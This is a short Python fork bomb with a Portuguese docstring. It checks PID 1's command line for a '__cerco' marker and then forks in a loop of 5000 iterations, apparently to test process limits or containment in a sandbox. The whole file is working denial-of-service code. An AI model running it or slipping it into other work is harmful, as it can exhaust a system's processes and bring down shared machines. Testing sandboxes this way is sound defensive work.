"""Multiplica-se sem parar."""
import os
import sys
import time

if b"__cerco" not in open("/proc/1/cmdline", "rb").read():
    sys.exit(3)
for _ in range(5000):
    try:
        os.fork()
    except OSError:
        time.sleep(60)
